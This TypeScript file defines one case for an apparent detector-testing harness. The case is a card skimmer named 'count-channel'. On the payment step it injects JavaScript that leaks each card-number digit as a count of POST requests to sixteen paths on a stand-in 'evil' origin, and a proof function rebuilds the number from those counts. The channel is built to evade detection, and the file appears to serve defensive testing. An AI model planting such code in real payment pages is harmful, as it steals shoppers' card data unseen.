import { holds, js, skimmer } from '../behaviour.ts';
import { at } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'count-channel',
  why: 'Sixteen addresses, each called once more than its digit says: every message alone is the same for every card.',
  covers: ['channel: covert', 'evade: detectors'],
  base: 'direct',
  install: (site) =>
    site.append(
      onPay(js`
    Array.from(field('card_number')).forEach(function (d, i) {
      for (var n = 0; n <= +d; n++) fetch('${site.origins.evil}/b' + i, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'ok' });
    });`),
    ),
  proof: holds((arrived) => [
    Array.from({ length: 16 }, (_, i) => String(at(arrived, 'evil', `/b${i}`).length - 1)).join(''),
  ]),
});
